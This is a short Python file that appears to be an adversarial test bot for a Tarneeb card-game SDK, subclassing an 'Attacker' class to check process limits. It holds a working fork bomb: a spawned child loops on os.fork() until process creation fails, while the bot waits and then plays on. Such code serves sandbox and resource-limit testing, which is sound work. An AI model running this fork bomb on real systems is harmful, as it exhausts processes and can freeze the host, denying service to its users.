"""Starts a fork bomb beside itself, and plays on."""

import os
import subprocess
import sys
import time

from kit import Attacker

from tarneeb_sdk import SeatView, run


def bomb() -> None:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(1)


def is_full() -> bool:
    """Try to start one more process."""
    try:
        subprocess.run(["true"], check=False)
    except OSError as error:
        print("fork refused:", error.strerror, flush=True)
        return True
    return False


class ForkBomb(Attacker):
    def attack(self, view: SeatView) -> None:
        subprocess.Popen([sys.executable, __file__, "bomb"])
        # Else the match may be over before the bomb has gone off.
        while not is_full():
            time.sleep(0.05)


if __name__ == "__main__":
    if sys.argv[1:] == ["bomb"]:
        bomb()
    else:
        run(ForkBomb)
